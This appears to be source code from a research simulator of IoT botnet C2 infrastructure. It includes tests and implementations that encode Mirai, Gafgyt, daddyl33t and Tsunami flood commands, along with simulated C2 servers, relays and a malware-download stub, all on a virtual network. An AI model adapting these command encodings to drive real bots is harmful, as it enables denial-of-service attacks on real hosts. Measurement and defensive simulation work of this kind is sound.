		if got.Attack != attack || got.Port != 4567 {
			t.Fatalf("%v: %+v", attack, got)
		}
	}
}

func TestDaddyVerbsMatchPaper(t *testing.T) {
	// §5.1: UDPRAW, HYDRASYN, NURSE (ICMP, portless), NFOV6.
	p := proto(t, FamilyDaddyl33t)
	wire, _ := p.EncodeCommand(Command{Attack: AttackUDPFlood, Target: target, Port: 80, Duration: time.Minute})
	if !strings.HasPrefix(string(wire), "UDPRAW ") {
		t.Fatalf("UDP verb = %q", wire)
	}
	wire, _ = p.EncodeCommand(Command{Attack: AttackSYNFlood, Target: target, Port: 80, Duration: time.Minute})
	if !strings.HasPrefix(string(wire), "HYDRASYN ") {
		t.Fatalf("SYN verb = %q", wire)
	}
	wire, _ = p.EncodeCommand(Command{Attack: AttackBlacknurse, Target: target, Duration: time.Minute})
	if string(wire) != "NURSE 198.51.100.9 60\n" {
		t.Fatalf("NURSE wire = %q", wire)
	}
	got, err := p.DecodeCommand([]byte("NURSE 198.51.100.9 60"))
	if err != nil || got.Attack != AttackBlacknurse || got.Port != 0 {
		t.Fatalf("NURSE parse = %+v, %v", got, err)
	}
}

func TestDaddyNonCommandLines(t *testing.T) {
	p := proto(t, FamilyDaddyl33t)
	for _, line := range []string{"!ping", "!pong", "l33t bot1", ""} {
		if _, err := p.DecodeCommand([]byte(line)); err != ErrNotCommand {
			t.Fatalf("%q: err = %v, want ErrNotCommand", line, err)
		}
	}
}

func TestLinesSplitsAndKeepsPartial(t *testing.T) {
	lines, rest := Lines([]byte("one\ntwo\r\npart"))
	if len(lines) != 2 || lines[0] != "one" || lines[1] != "two" {
		t.Fatalf("lines = %v", lines)
	}
	if string(rest) != "part" {
		t.Fatalf("rest = %q", rest)
	}
}

func TestIRCRoundTrip(t *testing.T) {
	m := IRCMessage{Prefix: "c2", Command: "PRIVMSG", Params: []string{TsunamiChannel}, Trailing: "do things"}
	got, err := ParseIRC(string(m.EncodeIRC()))
	if err != nil {
		t.Fatal(err)
	}
	if got.Prefix != "c2" || got.Command != "PRIVMSG" || got.Trailing != "do things" {
		t.Fatalf("got %+v", got)
	}
	if len(got.Params) != 1 || got.Params[0] != TsunamiChannel {
		t.Fatalf("params = %v", got.Params)
	}
}

func TestIRCNoPrefixNoTrailing(t *testing.T) {
	got, err := ParseIRC("NICK bot42")
	if err != nil {
		t.Fatal(err)
	}
	if got.Command != "NICK" || len(got.Params) != 1 || got.Params[0] != "bot42" {
		t.Fatalf("got %+v", got)
	}
}

func TestAttackTargetProtoDistributionDims(t *testing.T) {
	// Figure 10 buckets: UDP, TCP, ICMP (+DNS handled at analysis
	// level). Every attack type must map to one.
	for a := AttackUDPFlood; a <= AttackNFO; a++ {
		p := a.TargetProto()
		if p != "UDP" && p != "TCP" && p != "ICMP" {
			t.Fatalf("%v -> %q", a, p)
		}
	}
}

func TestQuickMiraiRoundTripAnyPortDuration(t *testing.T) {
	p := proto(t, FamilyMirai)
	f := func(port uint16, secs uint16, ip [4]byte) bool {
		cmd := Command{
			Attack:   AttackUDPFlood,
			Target:   netip.AddrFrom4(ip),
			Port:     port,
			Duration: time.Duration(secs) * time.Second,
		}
		wire, err := p.EncodeCommand(cmd)
		if err != nil {
			return false
		}
		got, err := p.DecodeCommand(wire)
		if err != nil {
			return false
		}
		return got.Port == port && got.Target == cmd.Target && got.Duration == cmd.Duration
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestQuickGafgytRoundTrip(t *testing.T) {
	p := proto(t, FamilyGafgyt)
	f := func(port uint16, secs uint8, ip [4]byte) bool {
		cmd := Command{
			Attack:   AttackUDPFlood,
			Target:   netip.AddrFrom4(ip),
			Port:     port,
			Duration: time.Duration(secs) * time.Second,
		}
		wire, err := p.EncodeCommand(cmd)
		if err != nil {
			return false
		}
		got, err := p.DecodeCommand(wire)
		if err != nil {
			return false
		}
		return got.Port == port && got.Target == cmd.Target
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestMiraiDecodeTruncationFuzz(t *testing.T) {
	p := proto(t, FamilyMirai)
	wire, _ := p.EncodeCommand(Command{Attack: AttackUDPFlood, Target: target, Port: 80, Duration: time.Minute})
	for i := 0; i < len(wire); i++ {
		trunc := wire[:i]
		if cmd, err := p.DecodeCommand(trunc); err == nil {
			// Decoding a prefix must never fabricate a different
			// command.
			if !bytes.Equal(cmd.Raw, wire) {
				t.Fatalf("truncated to %d bytes decoded: %+v", i, cmd)
			}
		}
	}
}
