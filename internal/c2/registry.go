package c2

import (
	"bytes"
	"encoding/json"
	"fmt"
	"sync/atomic"
	"time"

	"malnet/internal/c2/spec"
)

// Protocol is one family's compiled, executable C2 protocol: the
// command codec, the login sequence, the keepalive cadences, the
// probe handshake, and factories for both session machines. It
// replaces the historical per-family free functions
// (EncodeMiraiAttack, ParseGafgytLine, IsMiraiHandshake, ...); the
// only implementation is *spec.Compiled, so every family — built in
// or scenario pack — is registry data.
type Protocol interface {
	// Name is the family name the protocol is registered under.
	Name() string
	// Spec returns the protocol's declarative source.
	Spec() spec.ProtocolSpec
	// CanIssue reports whether the family has an attack-command codec.
	CanIssue() bool
	// EncodeCommand renders cmd in the family's wire encoding.
	EncodeCommand(cmd Command) ([]byte, error)
	// DecodeCommand parses the first attack command in data.
	DecodeCommand(data []byte) (*Command, error)
	// Login renders the bot's session-opening wire sequence.
	Login(v spec.LoginVars) [][]byte
	// NeedsNick reports whether Login references {nick}.
	NeedsNick() bool
	// ClientKeepalive is the bot-initiated keepalive wire + cadence.
	ClientKeepalive() (wire []byte, every time.Duration, ok bool)
	// ServerKeepalive is the server→bot ping wire.
	ServerKeepalive() ([]byte, bool)
	// WrapText wraps a raw operator line per the family's transport.
	WrapText(line string) []byte
	// NewClient returns the bot-side session machine.
	NewClient() spec.ClientConn
	// NewSession returns the server-side session machine.
	NewSession() spec.ServerSession
	// ProbeMessages is the weaponized-probe opening sequence.
	ProbeMessages() [][]byte
	// ProbeEngaged classifies peer data as C2-protocol engagement.
	ProbeEngaged(data []byte) bool
	// Signature labels a session's first outbound payload when it
	// matches the family's protocol artifact.
	Signature(firstOut []byte) (string, bool)
}

// regState is one immutable registry generation. Writes (init-time
// Register, runtime RegisterSpec) copy the whole state and swap the
// pointer, so lookups under concurrent study workers stay lock-free.
type regState struct {
	byName map[string]Protocol
	order  []string
}

// reg is seeded by a var initializer (not an init func) so it is
// ready before any other file's init-time Register call.
var reg = func() *atomic.Pointer[regState] {
	var p atomic.Pointer[regState]
	p.Store(&regState{byName: map[string]Protocol{}})
	return &p
}()

func regSwap(mutate func(old *regState) (*regState, error)) error {
	for {
		old := reg.Load()
		next, err := mutate(old)
		if err != nil {
			return err
		}
		if next == old {
			return nil
		}
		if reg.CompareAndSwap(old, next) {
			return nil
		}
	}
}

func regAdd(old *regState, p Protocol) *regState {
	next := &regState{
		byName: make(map[string]Protocol, len(old.byName)+1),
		order:  make([]string, 0, len(old.order)+1),
	}
	for k, v := range old.byName {
		next.byName[k] = v
	}
	next.order = append(next.order, old.order...)
	next.byName[p.Name()] = p
	next.order = append(next.order, p.Name())
	return next
}

// Register adds a compiled protocol under its family name. Duplicate
// registration is a programming error.
func Register(p Protocol) {
	err := regSwap(func(old *regState) (*regState, error) {
		if _, dup := old.byName[p.Name()]; dup {
			return nil, fmt.Errorf("c2: duplicate protocol registration: %s", p.Name())
		}
		return regAdd(old, p), nil
	})
	if err != nil {
		panic(err.Error())
	}
}

// Lookup returns the family's protocol.
func Lookup(family string) (Protocol, bool) {
	p, ok := reg.Load().byName[family]
	return p, ok
}

// Protocols returns every registered protocol in registration order
// (the built-ins come first, in Table 6 order).
func Protocols() []Protocol {
	st := reg.Load()
	out := make([]Protocol, 0, len(st.order))
	for _, name := range st.order {
		out = append(out, st.byName[name])
	}
	return out
}

// MustCompile compiles a spec or panics; for init-time registration
// of specs that are program constants.
func MustCompile(ps spec.ProtocolSpec) Protocol {
	c, err := spec.Compile(ps)
	if err != nil {
		panic(err)
	}
	return c
}

// RegisterSpec compiles and registers a runtime-supplied spec (a
// scenario pack's override family). Unlike Register, re-registering
// is allowed when the spec is byte-identical to the existing entry —
// world generation may run many times in one process — and an error
// when it conflicts: the registry is global, so two worlds in one
// process cannot disagree about a family's protocol.
func RegisterSpec(ps spec.ProtocolSpec) error {
	c, err := spec.Compile(ps)
	if err != nil {
		return err
	}
	want, _ := json.Marshal(ps)
	return regSwap(func(old *regState) (*regState, error) {
		if existing, ok := old.byName[ps.Name]; ok {
			have, _ := json.Marshal(existing.Spec())
			if !bytes.Equal(have, want) {
				return nil, fmt.Errorf("c2: family %q already registered with a different spec", ps.Name)
			}
			return old, nil
		}
		return regAdd(old, c), nil
	})
}
