package c2

import (
	"fmt"
	"strconv"
	"time"

	"malnet/internal/c2/spec"
	"malnet/internal/detrand"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

// DutyCycle is the responsiveness model behind the paper's
// "elusive C2" finding (§3.2, Figure 4): the server's observable
// uptime is a per-slot Markov chain. With the default parameters a
// server that answered a probe answers the next one (4 h later) only
// 9 % of the time, and six consecutive responsive slots essentially
// never happen.
type DutyCycle struct {
	// SlotLen is the chain's time step (the paper probes at 4 h).
	SlotLen time.Duration
	// RespAfterResp is P(responsive | previous slot responsive).
	RespAfterResp float64
	// RespAfterIdle is P(responsive | previous slot idle).
	RespAfterIdle float64
	// Seed drives the deterministic chain.
	Seed int64
}

// DefaultDutyCycle returns the paper-calibrated elusiveness model.
func DefaultDutyCycle(seed int64) DutyCycle {
	return DutyCycle{
		SlotLen:       4 * time.Hour,
		RespAfterResp: 0.09,
		RespAfterIdle: 0.30,
		Seed:          seed,
	}
}

// DutyCycleFrom instantiates a spec's declarative duty model with a
// seed; a zero model falls back to the default.
func DutyCycleFrom(m spec.DutyModel, seed int64) DutyCycle {
	if m.SlotHours <= 0 {
		return DefaultDutyCycle(seed)
	}
	return DutyCycle{
		SlotLen:       time.Duration(m.SlotHours * float64(time.Hour)),
		RespAfterResp: m.RespAfterResp,
		RespAfterIdle: m.RespAfterIdle,
		Seed:          seed,
	}
}

// hash01 derives a uniform [0,1) from the seed and slot index.
func (d DutyCycle) hash01(slot int) float64 {
	return detrand.Float01(d.Seed, "slot", strconv.Itoa(slot))
}

// Responsive reports whether slot i (0-based from the server's
// birth) is responsive. The chain is evaluated iteratively but
// deterministically, so any slot can be queried independently of
// simulation order.
func (d DutyCycle) Responsive(slot int) bool {
	if slot < 0 {
		return false
	}
	resp := d.hash01(0) < 0.5 // initial state
	for i := 1; i <= slot; i++ {
		p := d.RespAfterIdle
		if resp {
			p = d.RespAfterResp
		}
		resp = d.hash01(i) < p
	}
	return resp
}

// RelayConfig makes a server a P2P relay node: it dials the upstream
// origin C2 as a bot, and every command it receives is re-issued to
// its own downstream sessions.
type RelayConfig struct {
	// Upstream is the origin C2 the relay phones.
	Upstream simnet.Addr
	// RedialEvery is the reconnect cadence after the upstream leg
	// drops; defaults to 5 m.
	RedialEvery time.Duration
	// IssueEvery is the downstream re-issue interval for forwarded
	// commands; defaults to 15 m.
	IssueEvery time.Duration
	// IssueRetries bounds downstream re-issues while no bot is
	// connected; defaults to 130 (the attack-plan default).
	IssueRetries int
}

// ServerConfig describes one C2 server.
type ServerConfig struct {
	// Family selects the registered protocol spec.
	Family string
	// Addr is the listen endpoint.
	Addr simnet.Addr
	// Birth and Death bound the server's life; outside it the host
	// is dark (SYN timeouts).
	Birth, Death time.Time
	// Duty is the responsiveness model within the lifetime; a zero
	// model is filled from the family spec's duty-cycle parameters.
	Duty DutyCycle
	// AlwaysOn disables the duty cycle (for protocol tests).
	AlwaysOn bool
	// Downloader, when non-nil, co-hosts an HTTP malware
	// downloader on port 80 serving these files (path -> bytes).
	Downloader map[string][]byte
	// KeepaliveEvery is the server-side ping cadence for text/IRC
	// protocols; defaults to 60 s.
	KeepaliveEvery time.Duration
	// SessionTTL bounds how long a bot session is kept before the
	// server closes it; defaults to 4 h (bounds event volume).
	SessionTTL time.Duration
	// Relay, when non-nil, makes this server a P2P relay node.
	Relay *RelayConfig
}

// IssuedCommand is a ground-truth record of an attack command that
// actually went out to >= 1 bot.
type IssuedCommand struct {
	Time time.Time
	Cmd  Command
	Bots int
}

// Server is a live C2 on the virtual network.
type Server struct {
	cfg   ServerConfig
	proto Protocol // nil for families with no registered protocol
	host  *simnet.Host
	net   *simnet.Network

	sessions map[*session]struct{}
	// chains tracks every scheduled attack chain in creation order,
	// so a study checkpoint can snapshot and re-arm them (see
	// AttackChains / RestoreAttackChains).
	chains []*attackChain
	// Issued logs every command actually delivered — the ground
	// truth D-DDOS is validated against.
	Issued []IssuedCommand

	// upstream is the relay's current upstream connection.
	upstream *simnet.Conn
}

type session struct {
	srv     *Server
	conn    *simnet.Conn
	ready   bool
	machine spec.ServerSession
	// ttlEv and kaEv are the session's pending clock events (TTL
	// close, next keepalive); both are cancelled when the session
	// closes so a dead session leaves nothing in the event queue.
	ttlEv, kaEv simclock.EventID
}

// NewServer installs a C2 server on the network. The host is created
// if needed; its Online flag is driven by the lifetime and duty
// cycle.
func NewServer(n *simnet.Network, cfg ServerConfig) *Server {
	if cfg.KeepaliveEvery <= 0 {
		cfg.KeepaliveEvery = time.Minute
	}
	if cfg.SessionTTL <= 0 {
		cfg.SessionTTL = 4 * time.Hour
	}
	proto, _ := Lookup(cfg.Family)
	if cfg.Duty.SlotLen <= 0 {
		if proto != nil {
			cfg.Duty = DutyCycleFrom(proto.Spec().Duty, cfg.Duty.Seed)
		} else {
			cfg.Duty = DefaultDutyCycle(cfg.Duty.Seed)
		}
	}
	s := &Server{
		cfg:      cfg,
		proto:    proto,
		net:      n,
		host:     n.AddHost(cfg.Addr.IP),
		sessions: make(map[*session]struct{}),
	}
	s.host.ListenTCP(cfg.Addr.Port, s.accept)
	if cfg.Downloader != nil {
		ServeDownloader(s.host, 80, cfg.Downloader)
	}
	s.applyOnline()
	s.scheduleFlips()
	if cfg.Relay != nil && proto != nil {
		// The upstream leg lives inside the relay's own lifetime:
		// first dial at birth, no redials past death (see
		// dialUpstream's Close handler). Without the gate a relay
		// materialized a year before its birth would grind the event
		// queue with failing five-minute redials the whole time.
		if now := n.Clock.Now(); now.Before(cfg.Birth) {
			n.Clock.Schedule(cfg.Birth, s.dialUpstream)
		} else if now.Before(cfg.Death) {
			s.dialUpstream()
		}
	}
	return s
}

// Config returns the server's configuration.
func (s *Server) Config() ServerConfig { return s.cfg }

// Host returns the underlying simnet host.
func (s *Server) Host() *simnet.Host { return s.host }

// Sessions returns the number of connected bot sessions.
func (s *Server) Sessions() int { return len(s.sessions) }

// OnlineAt reports whether the server is reachable at t per its
// lifetime and duty cycle.
func (s *Server) OnlineAt(t time.Time) bool {
	if t.Before(s.cfg.Birth) || !t.Before(s.cfg.Death) {
		return false
	}
	if s.cfg.AlwaysOn {
		return true
	}
	slot := int(t.Sub(s.cfg.Birth) / s.cfg.Duty.SlotLen)
	return s.cfg.Duty.Responsive(slot)
}

func (s *Server) applyOnline() {
	s.host.Online = s.OnlineAt(s.net.Clock.Now())
}

// scheduleFlips registers Online transitions at every slot boundary
// inside the lifetime plus the birth/death edges.
func (s *Server) scheduleFlips() {
	clock := s.net.Clock
	now := clock.Now()
	schedule := func(at time.Time) {
		if at.After(now) {
			clock.Schedule(at, s.applyOnline)
		}
	}
	schedule(s.cfg.Birth)
	schedule(s.cfg.Death)
	if s.cfg.AlwaysOn {
		return
	}
	for t := s.cfg.Birth; t.Before(s.cfg.Death); t = t.Add(s.cfg.Duty.SlotLen) {
		schedule(t)
	}
}

// accept starts a protocol session for an inbound bot connection.
func (s *Server) accept(local, remote simnet.Addr) simnet.ConnHandler {
	sess := &session{srv: s}
	if s.proto != nil {
		sess.machine = s.proto.NewSession()
	}
	return simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) {
			sess.conn = c
			s.sessions[sess] = struct{}{}
			sess.onConnect()
			sess.ttlEv = s.net.Clock.After(s.cfg.SessionTTL, func() {
				if _, live := s.sessions[sess]; live {
					c.Close()
				}
			})
		},
		Data: func(c *simnet.Conn, b []byte) { sess.onData(b) },
		Close: func(c *simnet.Conn, err error) {
			delete(s.sessions, sess)
			// Cancel the session's pending timers: a closed session
			// must leave no events behind, or a checkpointed event
			// queue could never be reproduced on resume.
			s.net.Clock.Cancel(sess.ttlEv)
			s.net.Clock.Cancel(sess.kaEv)
		},
	}
}

func (sess *session) onConnect() {
	if sess.srv.proto == nil {
		return
	}
	if _, ok := sess.srv.proto.ServerKeepalive(); ok {
		sess.scheduleKeepalive()
	}
}

func (sess *session) scheduleKeepalive() {
	srv := sess.srv
	sess.kaEv = srv.net.Clock.After(srv.cfg.KeepaliveEvery, func() {
		if _, live := srv.sessions[sess]; !live {
			return
		}
		if wire, ok := srv.proto.ServerKeepalive(); ok {
			sess.conn.Write(wire)
		}
		sess.scheduleKeepalive()
	})
}

// onData feeds inbound bytes to the protocol machine and applies its
// events: replies go back on the wire, a Ready event registers the
// bot.
func (sess *session) onData(b []byte) {
	if sess.machine == nil {
		return
	}
	for _, ev := range sess.machine.Data(b) {
		if ev.Write != nil {
			sess.conn.Write(ev.Write)
		}
		if ev.Ready {
			sess.ready = true
		}
	}
}

// Issue sends an attack command to every ready session now. It
// returns the number of bots that received it; 0 means no bot was
// connected (nothing is logged then).
func (s *Server) Issue(cmd Command) (int, error) {
	wire, err := s.encode(cmd)
	if err != nil {
		return 0, err
	}
	bots := 0
	for sess := range s.sessions {
		if sess.ready {
			if sess.conn.Write(wire) == nil {
				bots++
			}
		}
	}
	if bots > 0 {
		s.Issued = append(s.Issued, IssuedCommand{Time: s.net.Clock.Now(), Cmd: cmd, Bots: bots})
	}
	return bots, nil
}

func (s *Server) encode(cmd Command) ([]byte, error) {
	if s.proto != nil && s.proto.CanIssue() {
		return s.proto.EncodeCommand(cmd)
	}
	return nil, fmt.Errorf("c2: family %q cannot issue attacks", s.cfg.Family)
}

// IssueText sends a raw operator line to every ready session —
// Tsunami's IRC command channel (Table 6: "download and execute
// files from the Internet"). The line is wrapped per the family's
// transport (PRIVMSG for IRC, newline-terminated otherwise).
func (s *Server) IssueText(line string) int {
	var wire []byte
	if s.proto != nil {
		wire = s.proto.WrapText(line)
	} else {
		wire = append([]byte(line), '\n')
	}
	bots := 0
	for sess := range s.sessions {
		if sess.ready && sess.conn.Write(wire) == nil {
			bots++
		}
	}
	return bots
}

// ---- P2P relay upstream leg ----

// dialUpstream connects the relay to its origin C2 as if it were a
// bot: it logs in with a deterministic nick, answers keepalives via
// the ordinary client machine, and schedules every received command
// for downstream re-issue. The leg redials (on a timer) whenever it
// drops — including while the relay's own host is dark, so the mesh
// reconverges when duty cycles flip hosts back on.
func (s *Server) dialUpstream() {
	rc := s.cfg.Relay
	redial := rc.RedialEvery
	if redial <= 0 {
		redial = 5 * time.Minute
	}
	issueEvery := rc.IssueEvery
	if issueEvery <= 0 {
		issueEvery = 15 * time.Minute
	}
	retries := rc.IssueRetries
	if retries <= 0 {
		retries = 130
	}
	client := s.proto.NewClient()
	s.upstream = nil
	s.host.DialTCP(rc.Upstream, simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) {
			s.upstream = c
			vars := spec.LoginVars{Nick: "relay|" + s.cfg.Addr.IP.String()}
			for _, wire := range s.proto.Login(vars) {
				c.Write(wire)
			}
		},
		Data: func(c *simnet.Conn, b []byte) {
			for _, ev := range client.Data(b) {
				if ev.Write != nil {
					c.Write(ev.Write)
				}
				if ev.Cmd != nil {
					// Forward: the relay re-issues the command to its
					// own bots until one picks it up. Chains are
					// checkpointed like any scheduled attack.
					s.ScheduleAttackEvery(s.net.Clock.Now(), *ev.Cmd, retries, issueEvery)
				}
			}
		},
		Close: func(c *simnet.Conn, err error) {
			if s.upstream == c {
				s.upstream = nil
			}
			// A failed dial lands here too (ErrTimeout/ErrRefused),
			// so one redial timer covers both drop and failure. A
			// relay past its death stops redialing for good.
			if !s.net.Clock.Now().Before(s.cfg.Death) {
				return
			}
			s.net.Clock.After(redial, func() {
				if s.upstream == nil && s.net.Clock.Now().Before(s.cfg.Death) {
					s.dialUpstream()
				}
			})
		},
	})
}

// UpstreamConnected reports whether the relay currently holds its
// upstream session (false for non-relay servers).
func (s *Server) UpstreamConnected() bool {
	return s.upstream != nil && s.upstream.Established()
}

// attackChain is the tracked state of one scheduled attack: the
// command, when it fires next, and how many re-issuance attempts
// remain. Keeping the state out of closures (the historical shape)
// lets a checkpoint capture exactly where every chain stands and a
// resumed run re-arm it without replaying Issue side effects.
type attackChain struct {
	cmd     Command
	next    time.Time
	every   time.Duration
	retries int
	done    bool
	ev      simclock.EventID
}

// ChainState is an attack chain's serializable snapshot.
type ChainState struct {
	Cmd     Command
	Next    time.Time
	Every   time.Duration
	Retries int
	Done    bool
}

// ScheduleAttack arranges for cmd to be issued at the given time,
// retrying hourly (up to retries times) while no bot is connected —
// mirroring how operators re-issue commands until bots pick them up.
func (s *Server) ScheduleAttack(at time.Time, cmd Command, retries int) {
	s.ScheduleAttackEvery(at, cmd, retries, time.Hour)
}

// ScheduleAttackEvery is ScheduleAttack with an explicit retry
// interval.
func (s *Server) ScheduleAttackEvery(at time.Time, cmd Command, retries int, every time.Duration) {
	if every <= 0 {
		every = time.Hour
	}
	ch := &attackChain{cmd: cmd, next: at, every: every, retries: retries}
	s.chains = append(s.chains, ch)
	s.armChain(ch)
}

// armChain schedules the chain's next firing. A firing that reaches a
// bot (or errors, or exhausts its retries) finishes the chain;
// otherwise it re-arms one interval out.
func (s *Server) armChain(ch *attackChain) {
	ch.ev = s.net.Clock.Schedule(ch.next, func() {
		n, err := s.Issue(ch.cmd)
		if err != nil {
			ch.done = true
			return
		}
		if n == 0 && ch.retries > 0 {
			ch.retries--
			ch.next = s.net.Clock.Now().Add(ch.every)
			s.armChain(ch)
			return
		}
		ch.done = true
	})
}

// AttackChains snapshots every scheduled attack chain in creation
// order.
func (s *Server) AttackChains() []ChainState {
	out := make([]ChainState, len(s.chains))
	for i, ch := range s.chains {
		out[i] = ChainState{Cmd: ch.cmd, Next: ch.next, Every: ch.every, Retries: ch.retries, Done: ch.done}
	}
	return out
}

// RestoreAttackChains replaces the server's chains with a snapshot:
// pending firings of the old chains are cancelled and every non-done
// restored chain is re-armed at its snapshotted Next time. The study
// resume path calls this before replaying the clock, so a chain that
// already delivered (or burned retries) in the original run never
// re-issues during replay.
func (s *Server) RestoreAttackChains(states []ChainState) {
	for _, ch := range s.chains {
		if !ch.done {
			s.net.Clock.Cancel(ch.ev)
		}
	}
	s.chains = make([]*attackChain, 0, len(states))
	for _, st := range states {
		ch := &attackChain{cmd: st.Cmd, next: st.Next, every: st.Every, retries: st.Retries, done: st.Done}
		s.chains = append(s.chains, ch)
		if !ch.done {
			s.armChain(ch)
		}
	}
}

// ServeDownloader binds a minimal HTTP file server to the host — the
// loader-hosting role §3.1 finds co-located with C2s ("All
// downloader servers host on http port 80").
func ServeDownloader(h *simnet.Host, port uint16, files map[string][]byte) {
	h.ListenTCP(port, func(local, remote simnet.Addr) simnet.ConnHandler {
		var buf []byte
		return simnet.ConnFuncs{
			Data: func(c *simnet.Conn, b []byte) {
				buf = append(buf, b...)
				lines, _ := Lines(buf)
				if len(lines) == 0 {
					return
				}
				var path string
				if n, _ := fmt.Sscanf(lines[0], "GET %s HTTP/", &path); n != 1 {
					c.Write([]byte("HTTP/1.0 400 Bad Request\r\n\r\n"))
					c.Close()
					return
				}
				body, ok := files[path]
				if !ok {
					c.Write([]byte("HTTP/1.0 404 Not Found\r\n\r\n"))
					c.Close()
					return
				}
				c.Write([]byte(fmt.Sprintf("HTTP/1.0 200 OK\r\nContent-Length: %d\r\nContent-Type: application/octet-stream\r\n\r\n", len(body))))
				c.Write(body)
				c.Close()
			},
		}
	})
}
