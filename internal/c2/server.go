package c2

import (
	"fmt"
	"strconv"
	"time"

	"malnet/internal/detrand"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

// DutyCycle is the responsiveness model behind the paper's
// "elusive C2" finding (§3.2, Figure 4): the server's observable
// uptime is a per-slot Markov chain. With the default parameters a
// server that answered a probe answers the next one (4 h later) only
// 9 % of the time, and six consecutive responsive slots essentially
// never happen.
type DutyCycle struct {
	// SlotLen is the chain's time step (the paper probes at 4 h).
	SlotLen time.Duration
	// RespAfterResp is P(responsive | previous slot responsive).
	RespAfterResp float64
	// RespAfterIdle is P(responsive | previous slot idle).
	RespAfterIdle float64
	// Seed drives the deterministic chain.
	Seed int64
}

// DefaultDutyCycle returns the paper-calibrated elusiveness model.
func DefaultDutyCycle(seed int64) DutyCycle {
	return DutyCycle{
		SlotLen:       4 * time.Hour,
		RespAfterResp: 0.09,
		RespAfterIdle: 0.30,
		Seed:          seed,
	}
}

// hash01 derives a uniform [0,1) from the seed and slot index.
func (d DutyCycle) hash01(slot int) float64 {
	return detrand.Float01(d.Seed, "slot", strconv.Itoa(slot))
}

// Responsive reports whether slot i (0-based from the server's
// birth) is responsive. The chain is evaluated iteratively but
// deterministically, so any slot can be queried independently of
// simulation order.
func (d DutyCycle) Responsive(slot int) bool {
	if slot < 0 {
		return false
	}
	resp := d.hash01(0) < 0.5 // initial state
	for i := 1; i <= slot; i++ {
		p := d.RespAfterIdle
		if resp {
			p = d.RespAfterResp
		}
		resp = d.hash01(i) < p
	}
	return resp
}

// ServerConfig describes one C2 server.
type ServerConfig struct {
	// Family selects the protocol (mirai, gafgyt, daddyl33t,
	// tsunami).
	Family string
	// Addr is the listen endpoint.
	Addr simnet.Addr
	// Birth and Death bound the server's life; outside it the host
	// is dark (SYN timeouts).
	Birth, Death time.Time
	// Duty is the responsiveness model within the lifetime.
	Duty DutyCycle
	// AlwaysOn disables the duty cycle (for protocol tests).
	AlwaysOn bool
	// Downloader, when non-nil, co-hosts an HTTP malware
	// downloader on port 80 serving these files (path -> bytes).
	Downloader map[string][]byte
	// KeepaliveEvery is the server-side ping cadence for text/IRC
	// protocols; defaults to 60 s.
	KeepaliveEvery time.Duration
	// SessionTTL bounds how long a bot session is kept before the
	// server closes it; defaults to 4 h (bounds event volume).
	SessionTTL time.Duration
}

// IssuedCommand is a ground-truth record of an attack command that
// actually went out to >= 1 bot.
type IssuedCommand struct {
	Time time.Time
	Cmd  Command
	Bots int
}

// Server is a live C2 on the virtual network.
type Server struct {
	cfg      ServerConfig
	host     *simnet.Host
	net      *simnet.Network
	sessions map[*session]struct{}
	// chains tracks every scheduled attack chain in creation order,
	// so a study checkpoint can snapshot and re-arm them (see
	// AttackChains / RestoreAttackChains).
	chains []*attackChain
	// Issued logs every command actually delivered — the ground
	// truth D-DDOS is validated against.
	Issued []IssuedCommand
}

type session struct {
	srv   *Server
	conn  *simnet.Conn
	ready bool
	buf   []byte
	nick  string
	// ttlEv and kaEv are the session's pending clock events (TTL
	// close, next keepalive); both are cancelled when the session
	// closes so a dead session leaves nothing in the event queue.
	ttlEv, kaEv simclock.EventID
}

// NewServer installs a C2 server on the network. The host is created
// if needed; its Online flag is driven by the lifetime and duty
// cycle.
func NewServer(n *simnet.Network, cfg ServerConfig) *Server {
	if cfg.KeepaliveEvery <= 0 {
		cfg.KeepaliveEvery = time.Minute
	}
	if cfg.SessionTTL <= 0 {
		cfg.SessionTTL = 4 * time.Hour
	}
	if cfg.Duty.SlotLen <= 0 {
		cfg.Duty = DefaultDutyCycle(cfg.Duty.Seed)
	}
	s := &Server{
		cfg:      cfg,
		net:      n,
		host:     n.AddHost(cfg.Addr.IP),
		sessions: make(map[*session]struct{}),
	}
	s.host.ListenTCP(cfg.Addr.Port, s.accept)
	if cfg.Downloader != nil {
		ServeDownloader(s.host, 80, cfg.Downloader)
	}
	s.applyOnline()
	s.scheduleFlips()
	return s
}

// Config returns the server's configuration.
func (s *Server) Config() ServerConfig { return s.cfg }

// Host returns the underlying simnet host.
func (s *Server) Host() *simnet.Host { return s.host }

// Sessions returns the number of connected bot sessions.
func (s *Server) Sessions() int { return len(s.sessions) }

// OnlineAt reports whether the server is reachable at t per its
// lifetime and duty cycle.
func (s *Server) OnlineAt(t time.Time) bool {
	if t.Before(s.cfg.Birth) || !t.Before(s.cfg.Death) {
		return false
	}
	if s.cfg.AlwaysOn {
		return true
	}
	slot := int(t.Sub(s.cfg.Birth) / s.cfg.Duty.SlotLen)
	return s.cfg.Duty.Responsive(slot)
}

func (s *Server) applyOnline() {
	s.host.Online = s.OnlineAt(s.net.Clock.Now())
}

// scheduleFlips registers Online transitions at every slot boundary
// inside the lifetime plus the birth/death edges.
func (s *Server) scheduleFlips() {
	clock := s.net.Clock
	now := clock.Now()
	schedule := func(at time.Time) {
		if at.After(now) {
			clock.Schedule(at, s.applyOnline)
		}
	}
	schedule(s.cfg.Birth)
	schedule(s.cfg.Death)
	if s.cfg.AlwaysOn {
		return
	}
	for t := s.cfg.Birth; t.Before(s.cfg.Death); t = t.Add(s.cfg.Duty.SlotLen) {
		schedule(t)
	}
}

// accept starts a protocol session for an inbound bot connection.
func (s *Server) accept(local, remote simnet.Addr) simnet.ConnHandler {
	sess := &session{srv: s}
	return simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) {
			sess.conn = c
			s.sessions[sess] = struct{}{}
			sess.onConnect()
			sess.ttlEv = s.net.Clock.After(s.cfg.SessionTTL, func() {
				if _, live := s.sessions[sess]; live {
					c.Close()
				}
			})
		},
		Data: func(c *simnet.Conn, b []byte) { sess.onData(b) },
		Close: func(c *simnet.Conn, err error) {
			delete(s.sessions, sess)
			// Cancel the session's pending timers: a closed session
			// must leave no events behind, or a checkpointed event
			// queue could never be reproduced on resume.
			s.net.Clock.Cancel(sess.ttlEv)
			s.net.Clock.Cancel(sess.kaEv)
		},
	}
}

